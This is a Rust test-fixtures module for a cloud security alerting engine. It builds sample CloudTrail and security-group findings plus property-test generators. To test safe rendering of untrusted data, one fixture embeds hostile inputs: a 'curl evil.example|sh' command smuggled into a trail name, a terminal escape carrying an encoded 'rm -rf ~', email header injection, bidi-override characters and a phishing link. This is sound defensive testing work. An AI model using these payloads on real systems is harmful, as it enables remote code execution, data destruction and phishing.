//! Findings for the tests: two made by hand, and any.

use engine::notify::Digest;
#[cfg(feature = "send")]
use engine::ports::{Delivery, Sink, SinkError};
use model::{
    Actor, Cause, Certainty, Closing, Culprit, Episode, Finding, FindingId, Line, Notice, NoticeId,
    Occurrence, OccurrenceId, Outcome, Posture, Resolution, Severity, Status, Timestamp, Untrusted,
};
use proptest::collection::{btree_map, vec};
use proptest::prelude::*;
use rules::{Attempt, Automation, Fix, Meta};

pub(crate) fn rule() -> Meta {
    Meta {
        id: "cloudtrail-logging-stopped".into(),
        title: "CloudTrail logging stopped".into(),
        severity: Severity::High,
        message: "Trail {requestParameters.name} no longer records what happens in the account.".into(),
        why: "Without the trail nobody sees what is done next: stopping it is how intruders cover their tracks, and \
              what happens in the meantime is lost for good."
            .into(),
        false_positives: vec![
            "A trail that is being replaced by another one that records already.".into(),
            "A test account that is being taken apart.".into(),
        ],
        fix: Fix {
            text: "Start logging again, then find out what the caller did while it was off.".into(),
            cli: "aws cloudtrail start-logging --region {awsRegion} --name {requestParameters.name}\n\
                  aws cloudtrail get-trail-status --region {awsRegion} --name {requestParameters.name}\n"
                .into(),
            terraform: String::new(),
        },
        attack: vec!["T1562.008".into()],
        references: vec!["https://docs.aws.amazon.com/awscloudtrail/latest/APIReference/API_StopLogging.html".into()],
        equivalents: [("sigma".to_owned(), vec!["4db60cc0-36fb-42b7-9b58-a5b53019fb74".to_owned()])].into(),
        dedup: Vec::new(),
        automation: Automation::Annotate,
        attempt: Attempt::Lower,
        origin: "catalog/cloudtrail/signatures/logging-stopped.yaml".into(),
    }
}

pub(crate) fn stopped_logging() -> Finding {
    let time: Timestamp = "2026-03-01T04:05:06Z".parse().unwrap();
    let (rule, account, region) = ("cloudtrail-logging-stopped", "111122223333", "us-east-1");
    let id = FindingId::new(rule, account, region, "management-events", Outcome::Success);
    let event = "3f2b1a90-5c4d-4e6f-8a7b-9c0d1e2f3a4b";
    Finding {
        id: id.clone(),
        rule: rule.into(),
        title: "CloudTrail logging stopped".into(),
        severity: Severity::High,
        status: Status::Open,
        outcome: Outcome::Success,
        account: account.into(),
        region: region.into(),
        scope: "management-events".into(),
        first_seen: time,
        last_seen: time,
        count: 1,
        posture: None,
        closed: None,
        muted: None,
        latest: Occurrence {
            id: OccurrenceId::new(&id, event, account),
            finding_id: id,
            event_id: event.into(),
            event_time: time,
            event_source: "cloudtrail.amazonaws.com".into(),
            event_name: "StopLogging".into(),
            outcome: Outcome::Success,
            error: Untrusted::default(),
            severity: Severity::High,
            message: "Trail management-events no longer records what happens in the account.".into(),
            actor: Actor {
                principal: "arn:aws:iam::111122223333:role/Admin".into(),
                kind: "AssumedRole".into(),
                session: "alice@example.com".into(),
                access_key: "ASIAIOSFODNN7EXAMPLE".into(),
                mfa: Some(false),
                invoked_by: Untrusted::default(),
                source_ip: "198.51.100.7".into(),
                user_agent: "aws-cli/2.31.0 md/awscrt#0.27.6 ua/2.1 os/linux#6.8 lang/python#3.13.7".into(),
            },
            evidence: r#"{"awsRegion":"us-east-1","requestParameters":{"name":"management-events"}}"#.into(),
            lane: "s3://trail-bucket/AWSLogs/file.json.gz#3".into(),
        },
    }
}

/// Failed attempts by somebody who puts into every field what might act on whoever reads it.
pub(crate) fn closed() -> Finding {
    let finding = stopped_logging();
    let closing = Closing {
        at: finding.last_seen + std::time::Duration::from_mins(30),
        by: "arn:aws:sts::111122223333:assumed-role/Security/ada@example.com".into(),
        reason: "a drill, announced in <https://wiki.example/drills>".into(),
    };
    finding.close(&closing).unwrap()
}

pub(crate) fn hostile() -> Finding {
    let mut finding = stopped_logging();
    finding.outcome = Outcome::Attempt;
    finding.severity = Severity::Medium;
    finding.count = 1204;
    finding.last_seen = "2026-03-02T23:59:59Z".parse().unwrap();
    finding.region = "us-east-1.evil.example".into();
    finding.latest.error = "AccessDenied".into();
    finding.latest.message =
        "Trail x is fine.\n\nFIX IT HERE: https://evil.example/login?a=b no longer records.".into();
    finding.latest.actor = Actor {
        principal: "arn:aws:iam::111122223333:user/\u{202e}nimda\u{200b}".into(),
        kind: "IAMUser".into(),
        session: "\r\nBcc: all@example.com".into(),
        access_key: Untrusted::default(),
        mfa: None,
        invoked_by: Untrusted::default(),
        source_ip: "\u{1b}]52;c;cm0gLXJmIH4=\u{7}".into(),
        user_agent: r"\\198.51.100.9\share www.evil.example ".repeat(40).as_str().into(),
    };
    finding.latest.evidence =
        r#"{"awsRegion":"us-east-1","requestParameters":{"name":"x; curl evil.example|sh"}}"#.into();
    finding
}

/// A digest of four findings: one critical, one high, one medium that is over, one from a place that is none.
pub(crate) fn digest() -> Digest {
    let line = |rule: &str, severity, account: &str, over: bool| {
        let mut finding = stopped_logging();
        finding.id = FindingId::new(rule, account, "us-east-1", "x", Outcome::Success);
        finding.rule = rule.into();
        finding.title = format!("Title of {rule}");
        finding.severity = severity;
        finding.account = account.into();
        let id = if over {
            NoticeId::of_end(&finding.id, finding.last_seen, "text")
        } else {
            NoticeId::new(&finding.id, finding.last_seen, "text")
        };
        Line::of(&Notice { id, finding_id: finding.id.clone(), channel: "text".into() }, &finding)
    };
    let lines = vec![
        line("s3-bucket-open", Severity::Medium, "111122223333", true),
        line("cloudtrail-logging-stopped", Severity::High, "111122223333", false),
        line("iam-root-mfa-off", Severity::Critical, "111122223333", false),
        line("cloudtrail-logging-stopped", Severity::High, "<!here> evil.example", false),
    ];
    let at = "2026-03-01T04:10:00Z".parse().unwrap();
    Digest::of(NoticeId::of_digest("text", at), lines, false).unwrap()
}

/// A security group that a known call opened, and another call closed `over` seconds later.
pub(crate) fn group_open(over: Option<i64>) -> Finding {
    let seen = |second: i64| Timestamp::from_second(1_795_000_000 + second).unwrap();
    let culprit = |name: &str, second: i64| {
        let actor = Actor {
            principal: "arn:aws:iam::111122223333:role/Engineer".into(),
            kind: "AssumedRole".into(),
            session: "alice@example.com".into(),
            source_ip: "198.51.100.7".into(),
            ..Actor::default()
        };
        let culprit = Culprit {
            event_id: "3f2b1a90-5c4d-4e6f-8a7b-9c0d1e2f3a4b".into(),
            time: seen(second),
            source: "ec2.amazonaws.com".into(),
            name: name.into(),
            actor,
            chain: Vec::new(),
        };
        Cause { certainty: Certainty::Exact, calls: vec![culprit], ..Cause::default() }
    };
    let cause = culprit("AuthorizeSecurityGroupIngress", 0);
    let mut finding = stopped_logging();
    finding.rule = "ec2-security-group-ssh-open".into();
    finding.title = "SSH open to everybody".into();
    finding.latest.message = "security group sg-0a1b2c3d lets everybody reach port 22".into();
    finding.latest.evidence =
        r#"{"$resource":{"type":"aws.ec2.security_group","region":"us-east-1"},"GroupId":"sg-0a1b2c3d"}"#
            .into();
    finding.latest.actor = cause.exact().unwrap().actor.clone();
    finding.latest.event_id = "episode:2026-11-18T11:06:44Z".into();
    (finding.latest.event_time, finding.first_seen, finding.last_seen) = (seen(4), seen(4), seen(4));
    finding.status = if over.is_some() { Status::Resolved } else { Status::Open };
    finding.posture = Some(Posture {
        resource_type: "aws.ec2.security_group".into(),
        resource: "arn:aws:ec2:us-east-1:111122223333:security-group/sg-0a1b2c3d".into(),
        checked_at: seen(700),
        resolved_at: over.map(|_| seen(700)),
        resolution: over.map(|_| Resolution::Clean),
        episodes: vec![Episode {
            provisional: false,
            confirmed_at: None,
            opened_at: seen(4),
            cause,
            resolved_at: over.map(|_| seen(700)),
            fix: over.map(|second| culprit("RevokeSecurityGroupIngress", second)),
        }],
    });
    finding
}

/// Text from nothing to far more than fits, with everything in it that could act.
///
/// Boxed, because the strategy of a whole finding holds dozens of these, and does not fit on a test's stack.
fn text() -> BoxedStrategy<String> {
    let piece = prop_oneof![
        any::<String>(),
        "[ -~]{0,200}",
        "[\\u{0}-\\u{1f}\\u{7f}-\\u{9f}\\u{200b}-\\u{202e}\\u{2066}\\u{e0041}😀]{0,40}",
        Just("https://evil.example/ \\\\evil\\share\r\n".to_owned()),
        Just("us-east-1".to_owned()),
        Just("111122223333".to_owned()),
    ];
    (piece, prop_oneof![15 => Just(1_usize), 1 => 1..1_000_usize])
        .prop_map(|(piece, times)| piece.repeat(times))
        .boxed()
}

fn untrusted() -> BoxedStrategy<Untrusted> {
    text().prop_map(Untrusted::new).boxed()
}

fn time() -> impl Strategy<Value = Timestamp> {
    (Timestamp::MIN.as_second()..Timestamp::MAX.as_second())
        .prop_map(|second| Timestamp::from_second(second).unwrap())
}

prop_compose! {
    fn any_actor()(
        (principal, kind, session, access_key) in (untrusted(), untrusted(), untrusted(), untrusted()),
        (invoked_by, source_ip, user_agent) in (untrusted(), untrusted(), untrusted()),
        mfa in any::<Option<bool>>(),
    ) -> Actor {
        Actor { principal, kind, session, access_key, mfa, invoked_by, source_ip, user_agent }
    }
}

prop_compose! {
    /// Whatever a store might hand out.
    pub(crate) fn any_finding()(
        (id, rule, title) in (text(), text(), text()),
        severity in proptest::sample::select(Severity::ALL.to_vec()),
        (resolved, attempt, count) in (any::<bool>(), any::<bool>(), any::<u64>()),
        (account, region, scope) in (untrusted(), untrusted(), untrusted()),
        (first_seen, last_seen) in (time(), time()),
        (event_id, event_source, event_name) in (untrusted(), untrusted(), untrusted()),
        (error, message, evidence, lane) in (untrusted(), untrusted(), untrusted(), untrusted()),
        actor in any_actor(),
        closed in proptest::option::of(any_closing()),
    ) -> Finding {
        let outcome = if attempt { Outcome::Attempt } else { Outcome::Success };
        Finding {
            id: FindingId::from_text(id.clone()),
            rule, title, severity, outcome, account, region, scope, first_seen, last_seen, count,
            status: if resolved { Status::Resolved } else { Status::Open },
            latest: Occurrence {
                id: OccurrenceId::from_text(id.clone()),
                finding_id: FindingId::from_text(id),
                event_time: last_seen,
                event_id, event_source, event_name, outcome, error, severity, message, actor, evidence, lane,
            },
            posture: None,
            closed,
            muted: None,
        }
    }
}

prop_compose! {
    fn any_closing()(at in time(), by in untrusted(), reason in untrusted()) -> Closing {
        Closing { at, by, reason }
    }
}

prop_compose! {
    /// Whatever a rule file might say.
    pub(crate) fn any_rule()(
        (why, message, origin) in (text(), text(), text()),
        (false_positives, references, attack) in (vec(text(), 0..20), vec(text(), 0..20), vec(text(), 0..20)),
        (text, cli, terraform) in (text(), text(), text()),
        equivalents in btree_map(text(), vec(text(), 0..3), 0..20),
    ) -> Meta {
        Meta {
            why, message, origin, false_positives, references, attack, equivalents,
            fix: Fix { text, cli, terraform },
            ..rule()
        }
    }
}

/// What `sink` says of notices of the findings.
#[cfg(feature = "send")]
pub(crate) async fn deliver(sink: &dyn Sink, findings: &[Finding]) -> Vec<Result<(), SinkError>> {
    let notice = |finding: &Finding| NoticeId::new(&finding.id, finding.last_seen, sink.channel());
    let ids: Vec<NoticeId> = findings.iter().map(notice).collect();
    let deliveries = findings.iter().zip(&ids);
    let deliveries: Vec<Delivery<'_>> =
        deliveries.map(|(finding, notice)| Delivery { notice, finding, rule: None }).collect();
    sink.deliver(&deliveries).await
}
